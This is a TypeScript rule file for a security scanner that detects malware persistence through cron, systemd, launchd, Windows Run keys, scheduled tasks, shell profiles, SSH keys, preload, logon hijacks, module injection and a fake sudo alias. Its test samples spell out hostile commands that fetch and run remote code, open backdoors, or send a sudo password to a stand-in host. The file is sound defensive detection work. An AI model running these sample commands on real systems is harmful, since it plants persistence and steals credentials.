// Persistence: being started again without being asked. Services, agents and start entries are ordinary for installed
// software; what they start gives it away: a fetch, an encoded command, a program in a temporary or hidden folder.
import {
  all,
  any,
  at,
  bat,
  command,
  cs,
  go,
  inside,
  is,
  js,
  near,
  path,
  ps,
  py,
  type RuleSet,
  rb,
  sh,
  vb,
} from '../model.ts'

const id = (name: string): string => `persistence.${name}`

const loot = is(
  [
    'curl ',
    'wget ',
    'base64 -',
    '/dev/tcp',
    '/tmp/',
    '/dev/shm/',
    '/var/tmp/',
    'python -c',
    'python3 -c',
    'perl -e',
    ' nc ',
    'bash -i',
  ],
  null,
)

const plainUrl = is(
  ['http://', 'https://'],
  /https?:\/\/(?!localhost|127\.0\.0\.1|(?:www\.)?(?:github|gitlab|golang|nodejs|python|pypi|npmjs)\.)[\w.-]{3,80}/,
  { quoted: true },
)

export const persistence: RuleSet = {
  category: 'persistence',
  rules: [
    {
      id: id('cron'),
      severity: 'high',
      why: 'Puts a fetch, a decoder or a program from a temporary folder into cron.',
      when: command(
        near(
          0,
          any(
            is(['| crontab', '|crontab'], /\|\s{0,4}crontab/),
            is(
              ['/etc/crontab', '/var/spool/cron', '/etc/cron.'],
              />{1,2}\s{0,4}["']?\/(?:etc\/cron|var\/spool\/cron)/,
              { before: 8 },
            ),
          ),
          loot,
        ),
      ),
      matches: [
        sh('(crontab -l; echo "* * * * * curl -s http://x.example.invalid/a | sh") | crontab -'),
        sh('echo "*/5 * * * * root /tmp/.x/run" >> /etc/crontab'),
        py("os.system('(crontab -l; echo \"@reboot python3 -c \\'import x\\'\") | crontab -')"),
      ],
      misses: [sh('(crontab -l; echo "0 3 * * * /usr/local/bin/backup") | crontab -'), sh('crontab -l | grep curl')],
    },
    {
      id: id('cron-code'),
      severity: 'high',
      why: 'A program writes a fetch or a program from a temporary folder into the tables of cron.',
      when: inside(
        ['py', 'js', 'php', 'rb', 'go', 'pl', 'java', 'c', 'rust'],
        near(
          5,
          is(['/etc/crontab', '/var/spool/cron', '/etc/cron.d', 'crontab'], null),
          is(
            ['curl ', 'wget ', '/tmp/', '/dev/shm/', '/dev/tcp', 'base64 -d', '@reboot', '* * * *'],
            /(?:curl|wget)\s[^\n"']{0,100}http|\/tmp\/\.?\w|\/dev\/shm\/|\/dev\/tcp\/|base64 -d|@reboot[^\n"']{0,60}(?:python|node|sh|\.\/|\{|%s)|\* \* \* \*[^\n"']{0,60}(?:python|node|curl|wget|\/tmp|\{)/,
          ),
          any('write', 'exec'),
        ),
      ),
      matches: [
        py(
          "with open('/etc/cron.d/upd', 'w') as f:\n    f.write('* * * * * root curl -s http://x.example.invalid/a | sh\\n')",
        ),
      ],
      misses: [py("with open('/etc/cron.d/backup', 'w') as f:\n    f.write('0 3 * * * root /usr/bin/backup\\n')")],
    },
    {
      id: id('systemd'),
      severity: 'high',
      why: 'Installs a service that starts a fetch, an encoded command or a program in a temporary folder.',
      when: any(
        near(0, is(['execstart='], null), loot),
        is(['execstart='], /ExecStart=\/home\/[^\s/]{1,30}\/\.(?!local|config|cargo|nvm|npm|pyenv|bun|deno|rbenv)\w/, {
          after: 240,
        }),
        near(
          6,
          inside(
            ['py', 'js', 'go', 'rb', 'c', 'rust', 'sh'],
            is(['/etc/systemd/system/', '.config/systemd/user'], null),
          ),
          is(['/tmp/', '/dev/shm/', '/var/tmp/', 'base64 -d', '/dev/tcp/'], null),
          is(['execstart', 'systemctl enable', '"systemctl", "enable"', "'systemctl', 'enable'"], null),
        ),
      ),
      matches: [
        sh(
          'cat > /etc/systemd/system/upd.service <<E\n[Service]\nExecStart=/bin/bash -c "curl -s http://x.example.invalid/a | sh"\nRestart=always\nE',
        ),
        at('u.service', '[Service]\nExecStart=/tmp/.x/agent\nRestart=always'),
      ],
      misses: [at('a.service', '[Service]\nExecStart=/usr/bin/app --serve\nRestart=always')],
    },
    {
      id: id('launchd'),
      severity: 'high',
      why: 'Installs a launch agent that starts a fetch, a script interpreter with inline code or a program in a shared folder.',
      when: any(
        path(
          /\.plist$/,
          near(
            30,
            is(['programarguments'], null),
            is(
              ['<string>'],
              /<string>(?:[^<\n]{0,120}(?:curl\s|base64\s|\/tmp\/|\/private\/tmp|\/Users\/Shared\/|\/dev\/tcp|osascript\s+-e)|(?:\/usr\/bin\/)?osascript<|-c<|[^<\n]{0,60}\/\.[a-z]\w{2,30}\/)[^<\n]{0,300}/,
              { after: 520 },
            ),
            is(['runatload', 'startinterval', 'keepalive'], null),
          ),
        ),
        inside(
          ['py', 'js', 'go', 'sh', 'rb', 'swift', 'apple', 'c', 'rust'],
          near(
            25,
            is(['library/launchagents', 'library/launchdaemons'], null),
            is(['runatload'], null),
            is(
              [
                'curl ',
                '/tmp/',
                '/users/shared',
                'osascript',
                'base64',
                '/private/tmp',
                '-c</string>',
                'python -c',
                '/dev/tcp',
                '__file__',
                'sys.argv[0]',
              ],
              null,
            ),
          ),
        ),
      ),
      matches: [
        at(
          'com.a.plist',
          '<plist><dict><key>ProgramArguments</key><array><string>/bin/bash</string>\n<string>-c</string>\n<string>curl -s http://x.example.invalid/a | sh</string></array><key>RunAtLoad</key><true/></dict></plist>',
        ),
        sh(
          'cat > ~/Library/LaunchAgents/com.a.plist <<E\n<key>ProgramArguments</key><array><string>/Users/Shared/.a</string></array>\n<key>RunAtLoad</key><true/>\nE',
        ),
      ],
      misses: [
        at(
          'com.a.plist',
          '<plist><dict><key>ProgramArguments</key><array><string>/usr/local/bin/app</string></array><key>RunAtLoad</key><true/></dict></plist>',
        ),
      ],
    },
    {
      id: id('run-key'),
      severity: 'high',
      why: 'Writes itself, a hidden command or a program of a temporary folder into the keys Windows runs at start.',
      when: near(
        12,
        is(
          ['currentversion\\run', 'currentversion\\\\run', 'currentversion/run'],
          /CurrentVersion(?:\\{1,2}|\/)Run(?:Once)?\b/i,
        ),
        is(
          [
            'setvalueex',
            'regsetvalueex',
            'reg add',
            'set-itemproperty',
            'new-itemproperty',
            '.setvalue(',
            'regwrite',
            'createkey',
            'winreg',
            'hkcu:',
            "'reg', 'add'",
            '"reg", "add"',
            'openkey',
          ],
          /SetValueEx|RegSetValueEx|reg(?:\.exe)?["',\s]{1,4}add|(?:Set|New)-ItemProperty|\.SetValue\(|RegWrite|set_value/i,
        ),
        is(
          [
            '%temp%',
            '%appdata%',
            '$env:temp',
            '$env:appdata',
            'powershell',
            'mshta',
            'wscript',
            'sys.executable',
            '__file__',
            'sys.argv[0]',
            'getmodulefilename',
            '-enc',
            'appdata\\\\',
            "environ['appdata']",
            'environ["appdata"]',
            "getenv('appdata')",
            'application.executablepath',
            'programdata',
            '.vbs',
            'scriptfullname',
            'assembly.getexecutingassembly',
            'os.args[0]',
            'gettempdir',
            'gettemppath(',
            'process.execpath',
            'regsvr32',
            'rundll32',
          ],
          null,
        ),
      ),
      matches: [
        cs(
          'var target = Path.Combine(Path.GetTempPath(), "u.exe");\nRegistry.CurrentUser.OpenSubKey(@"Software\\Microsoft\\Windows\\CurrentVersion\\Run", true).SetValue("Sync", target);',
        ),
        py(
          "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'Updater', 0, winreg.REG_SZ, sys.executable)",
        ),
        bat(
          'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d "powershell -w hidden -enc AAAA" /f',
        ),
      ],
      misses: [
        cs(
          'var k = Registry.CurrentUser.OpenSubKey("Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run");\nreturn k.GetValue("App") != null;',
        ),
        ps('Get-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'),
      ],
    },
    {
      id: id('startup-folder'),
      severity: 'high',
      why: 'Copies itself or drops a script into the startup folder.',
      when: near(
        8,
        is(
          [
            'programs\\startup',
            'programs\\\\startup',
            'programs/startup',
            'shell:startup',
            'csidl_startup',
            '"programs", "startup"',
            "'programs', 'startup'",
            'specialfolder.startup',
            'specialfolders("startup")',
            "getfolderpath('startup')",
          ],
          null,
        ),
        any(
          'write',
          is(
            [
              'shutil.copy',
              'copyfile',
              'copy-item',
              'copy ',
              'file.copy',
              'move-item',
              'os.rename',
              'xcopy',
              'downloadfile',
              'urlretrieve',
              'createshortcut',
            ],
            null,
          ),
        ),
        is(
          [
            '__file__',
            'sys.argv[0]',
            'sys.executable',
            '.vbs',
            '.bat',
            'getmodulefilename',
            'scriptfullname',
            '%~f0',
            '%0',
            'executablepath',
            'process.execpath',
            'myinvocation',
            'getexecutingassembly',
            '.exe',
            '.pyw',
            '.cmd',
            '.hta',
          ],
          null,
        ),
        any(
          is(
            [
              'powershell',
              'http://',
              'https://',
              'hidden',
              '__file__',
              'sys.argv[0]',
              'sys.executable',
              'getmodulefilename',
              'scriptfullname',
              '%~f0',
              '%0',
              'getexecutingassembly',
              'myinvocation',
              'process.execpath',
              'wscript',
              'executablepath',
            ],
            null,
          ),
        ),
      ),
      matches: [
        py(
          "dst = os.path.join(os.environ['APPDATA'], 'Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\u.pyw')\nshutil.copy(__file__, dst)",
        ),
        bat('copy "%~f0" "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.bat"'),
      ],
      misses: [
        py("print(os.listdir(os.path.join(appdata, 'Programs\\\\Startup')))"),
        vb('s = shell.SpecialFolders("Startup")'),
      ],
    },
    {
      id: id('wmi'),
      severity: 'high',
      why: 'Subscribes a command to a system event through WMI.',
      when: near(
        30,
        is(['__eventfilter'], null),
        is(['commandlineeventconsumer', 'activescripteventconsumer', '__filtertoconsumerbinding'], null),
        is(
          [
            'set-wmiinstance',
            'new-ciminstance',
            'createinstance',
            '.put(',
            'put_(',
            '.put()',
            'spawninstance',
            'wmiclass',
            'create',
          ],
          null,
        ),
      ),
      matches: [
        ps(
          '$f = Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments $a\n$c = Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\\subscription -Arguments $b',
        ),
      ],
      misses: [ps('Get-WmiObject -Namespace root\\subscription -Class __EventFilter')],
    },
    {
      id: id('scheduled-task'),
      severity: 'high',
      why: 'Schedules a hidden or encoded command, a fetch, or a program of a temporary folder.',
      when: command(
        any(
          is(
            ['schtasks'],
            /schtasks(?:\.exe)?["',\s]{1,4}\/create[^\n]{0,260}?(?:powershell[^\n]{0,80}(?:-e|hidden|-w|iex|http)|mshta|wscript|cscript|%temp%|%appdata%|\\temp\\|\\appdata\\|http:|https:|rundll32|regsvr32|\\programdata\\)/i,
            { after: 420 },
          ),
          near(
            6,
            is(
              ['new-scheduledtaskaction', 'register-scheduledtask'],
              /New-ScheduledTaskAction[^\n]{0,240}?(?:-enc|hidden|iex|http|\$env:temp|\$env:appdata|mshta|wscript|\\temp\\)/i,
              { after: 360 },
            ),
          ),
        ),
      ),
      matches: [
        bat('schtasks /create /sc minute /mo 5 /tn Upd /tr "powershell -w hidden -enc AAAA" /f'),
        ps(
          '$a = New-ScheduledTaskAction -Execute powershell -Argument "-w hidden -c iex(irm https://x.example.invalid)"\nRegister-ScheduledTask -TaskName U -Action $a',
        ),
      ],
      misses: [bat('schtasks /create /sc daily /tn Backup /tr "C:\\Program Files\\App\\backup.exe"')],
    },
    {
      id: id('shell-profile'),
      severity: 'high',
      why: "Adds a fetch, a decoder or a reverse shell to a user's shell profile.",
      when: any(
        any(
          command(
            near(
              0,
              is(
                ['.bashrc', '.bash_profile', '.profile', '.zshrc', '.zshenv', '/etc/profile'],
                />{1,2}\s{0,4}["']?(?:~|\$HOME|\$\{HOME\}|\/root|\/home\/\S{1,40}|\/etc)?\/?\.?(?:bashrc|bash_profile|profile|zshrc|zshenv)/,
                { before: 60 },
              ),
              is(
                ['curl ', 'wget ', 'base64 -', '/dev/tcp', '/tmp/.', '/dev/shm/', 'nohup ', 'alias sudo'],
                /(?:curl|wget)\s[^\n]{0,120}?\|\s{0,4}(?:ba)?sh|base64\s+-{1,2}d|\/dev\/tcp|\/tmp\/\.|\/dev\/shm\/|nohup\s|alias sudo=/,
              ),
            ),
          ),
          inside(
            ['py', 'js', 'go', 'rb', 'c', 'rust', 'php', 'pl'],
            near(
              5,
              is(['.bashrc', '.zshrc', '.bash_profile', '.zshenv'], null),
              is(
                ['curl ', '/dev/tcp', 'base64 -d', 'nohup ', '| bash', '| sh', 'alias sudo', 'ld_preload'],
                /curl\s[^\n"'`]{0,120}\|\s*(?:ba)?sh|\/dev\/tcp|base64 -d|nohup\s|alias sudo|LD_PRELOAD/,
              ),
              any('write', 'exec'),
            ),
          ),
        ),
        inside(
          ['rb'],
          near(
            3,
            is(['.bashrc', '.zshrc', '.bash_profile', '.zshenv'], null),
            is(['.puts ', 'file.open('], null),
            is(['curl ', '/dev/tcp'], /curl\s[^\n"'`]{0,120}\|\s*(?:ba)?sh|\/dev\/tcp/, { quoted: true }),
          ),
        ),
      ),
      matches: [
        rb("File.open(File.expand_path('~/.zshrc'), 'a') { |f| f.puts '(curl -s http://x.example.invalid/z | sh &)' }"),
        sh('echo "curl -s http://x.example.invalid/a | bash" >> ~/.bashrc'),
        py("with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('nohup /tmp/.a >/dev/null 2>&1 &\\n')"),
      ],
      misses: [
        rb("File.open(File.expand_path('~/.zshrc'), 'a') { |f| f.puts 'eval \"$(rbenv init - zsh)\"' }"),
        sh('echo \'export PATH="$HOME/bin:$PATH"\' >> ~/.bashrc'),
        sh('echo \'eval "$(starship init bash)"\' >> ~/.bashrc'),
      ],
    },
    {
      id: id('authorized-keys'),
      severity: 'high',
      why: 'Adds a fixed key to the keys that may log in, and protects or hides it.',
      when: any(
        command(
          near(
            8,
            is(['authorized_keys'], />{1,2}\s{0,4}["']?[^\s"']{0,50}authorized_keys/, { before: 60 }),
            is(
              ['ssh-rsa aaaa', 'ssh-ed25519 aaaa', 'ecdsa-sha2'],
              /(?:ssh-(?:rsa|ed25519)|ecdsa-sha2\S{0,20})\s+AAAA[A-Za-z0-9+/]{8,}/,
              { after: 1000 },
            ),
          ),
        ),
        inside(
          ['py', 'js', 'go', 'rb', 'php', 'c', 'pl', 'java', 'rust'],
          near(
            6,
            is(['authorized_keys'], null),
            is(['ssh-rsa aaaa', 'ssh-ed25519 aaaa'], /ssh-(?:rsa|ed25519) AAAA[A-Za-z0-9+/]{8,}/),
            any('write', 'exec'),
          ),
        ),
      ),
      matches: [
        sh(`echo "ssh-rsa AAAA${'B3Nz'.repeat(8)} a@b" >> /root/.ssh/authorized_keys`),
        py(`open('/root/.ssh/authorized_keys', 'a').write('ssh-ed25519 AAAA${'C3Nz'.repeat(6)} x')`),
      ],
      misses: [sh('cat "$KEY.pub" >> ~/.ssh/authorized_keys'), sh('chmod 600 ~/.ssh/authorized_keys')],
    },
    {
      id: id('preload'),
      severity: 'high',
      why: 'Loads a library into every program of the machine.',
      when: any(
        command(
          is(['/etc/ld.so.preload'], /(?:echo|printf|cat|cp|mv|tee|ln)\s[^\n]{0,160}?\/etc\/ld\.so\.preload/, {
            before: 200,
            after: 40,
          }),
        ),
        inside(
          ['py', 'js', 'go', 'rb', 'php', 'c', 'pl', 'rust'],
          near(
            4,
            is(['/etc/ld.so.preload'], null),
            is(['"w"', '"a"', "'w'", "'a'", 'fwrite', 'fputs', 'write', 'o_wronly', 'fprintf'], null),
            is(['.so'], null),
          ),
        ),
      ),
      matches: [sh('echo /usr/local/lib/libp.so > /etc/ld.so.preload')],
      misses: [sh('ls -l /etc/ld.so.preload'), sh('LD_PRELOAD=./libfaketime.so date')],
    },
    {
      id: id('logon-hijack'),
      severity: 'critical',
      why: 'Replaces a program Windows starts at the logon screen.',
      when: any(
        near(
          4,
          is(['image file execution options'], null),
          is(
            ['sethc.exe', 'utilman.exe', 'osk.exe', 'magnify.exe', 'debugger', 'narrator.exe'],
            /(?:sethc|utilman|osk|magnify|narrator)\.exe/i,
          ),
          is(['debugger'], null),
        ),
        command(
          is(['copy', 'move'], /(?:copy|move)\s[^\n]{0,60}cmd\.exe[^\n]{0,60}(?:sethc|utilman|osk|magnify)\.exe/i),
        ),
        near(
          4,
          is(['currentversion\\winlogon', 'currentversion\\\\winlogon'], null),
          is(['userinit', 'shell'], /Userinit|["'\s]Shell["'\s]/i),
          is(['reg add', 'setvalueex', 'set-itemproperty', 'regsetvalueex'], null),
          is(['temp', 'appdata', 'programdata', 'powershell', 'users\\\\public', 'users\\public'], null),
        ),
      ),
      matches: [
        bat(
          'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe',
        ),
        bat('copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\utilman.exe'),
      ],
      misses: [bat('reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell')],
    },
    {
      id: id('module-injection'),
      severity: 'critical',
      why: "Writes code into another application's or package's files.",
      when: any(
        near(
          12,
          is(
            ['discord_desktop_core', 'app.asar', 'usercustomize.py', 'sitecustomize.py', 'site-packages'],
            /discord_desktop_core|app\.asar["'`\\/)]|(?:user|site)customize\.py|site-packages[^\n"']{0,40}\.pth/,
          ),
          is(['writefile', '.write(', 'write_text', 'copyfile', 'file_put_contents', 'appendfile'], null),
          any(
            is(
              ['exodus', 'atomic', 'ledger', 'webhook', 'exec(', 'eval(', 'http://', 'https://', 'import ', 'require('],
              /exodus|atomic|ledger|webhook|(?<![\w.])exec\(|eval\(|https?:\/\//i,
            ),
          ),
          any('decode', 'download', 'eval', 'walk', 'send'),
        ),
        near(
          8,
          is(['appendfile'], /appendFile(?:Sync)?\(\s*\w{1,20}\s*,\s*[^\n]{0,40}\+\s*\w/, { families: ['js'] }),
          is(
            ['__dirname,', 'node_modules'],
            /__dirname,\s*(?:["']\.\.["'],\s*){1,4}["'](?!\.|src|lib|dist|build|test)[\w@-]{2,40}["'][^\n]{0,120}\.c?js["']|node_modules["'/][^\n]{0,120}\.c?js["'`]/,
          ),
        ),
      ),
      matches: [
        js(
          "const target = path.join(__dirname, '..', 'ethers', 'lib', 'provider.js')\nfs.appendFileSync(target, '\\n/**/' + payload)",
        ),
        js(
          "const core = glob(discord + '/modules/discord_desktop_core-*/discord_desktop_core/index.js')\nfetch('https://x.example.invalid/inject.js').then(r => r.text()).then(t => fs.writeFileSync(core, t))",
        ),
      ],
      misses: [
        js("const log = path.join(__dirname, '..', 'logs', 'run.log')\nfs.appendFileSync(log, '\\n' + line)"),
        js("asar.extractAll('app.asar', 'app')"),
        py("path = site + '/sitecustomize.py'\nprint(path)"),
      ],
    },
    {
      id: id('boot-script'),
      severity: 'high',
      why: 'Adds a fetch or a program of a temporary folder to the scripts run at boot.',
      when: any(
        command(
          near(
            0,
            is(
              ['/etc/rc.local', '/etc/init.d/', '/etc/rc.d/', '/etc/update-motd.d'],
              />{1,2}\s{0,4}["']?\/etc\/(?:rc\.|init\.d|update-motd)/,
              {
                before: 8,
              },
            ),
            loot,
          ),
        ),
        inside(
          ['py', 'js', 'go', 'rb', 'c', 'rust', 'php', 'pl'],
          near(
            14,
            is(['/etc/init.d/', '/etc/rc.local', '/etc/rc.d/', '/etc/profile.d/', '/etc/update-motd.d'], null, {
              quoted: true,
            }),
            is(
              ['curl ', 'wget ', '/tmp/.', '/dev/shm/', '/dev/tcp/'],
              /(?:curl|wget)\s[^\n"'`]{0,160}\|\s*(?:ba)?sh|\/tmp\/\.\w|\/dev\/shm\/|\/dev\/tcp\//,
              { quoted: true },
            ),
            'write',
          ),
        ),
      ),
      matches: [
        go(
          'const script = "#!/bin/sh\\nwget -q -O- http://x.example.invalid/b | sh &"\nos.WriteFile("/etc/init.d/netd", []byte(script), 0o755)',
        ),
        sh('echo "/tmp/.x/run &" >> /etc/rc.local'),
      ],
      misses: [
        go('os.WriteFile("/etc/init.d/shopd", []byte("#!/bin/sh\\n/usr/sbin/shopd &"), 0o755)'),
        sh('echo "/usr/sbin/app &" >> /etc/rc.local'),
        sh('cat /etc/rc.local'),
      ],
    },
    {
      id: id('sudo-alias'),
      severity: 'critical',
      why: 'Puts itself in the place of sudo and sends the password away.',
      when: all(
        is(
          ['alias sudo=', 'function sudo', 'sudo()'],
          /(?:alias\s+sudo=|(?:function\s+)?sudo\s*\(\))[^\n]{0,200}read\s+-\w*s/,
          {
            after: 320,
            quoted: true,
          },
        ),
        plainUrl,
      ),
      matches: [
        sh(
          `alias sudo='f() { read -rsp "[sudo] password for $USER: " p; curl -s "http://203.0.113.2/p" -d "$USER:$p"; }; f'`,
        ),
      ],
      misses: [sh("alias sudo='sudo '\ncurl -s http://203.0.113.2/health")],
    },
  ],
}
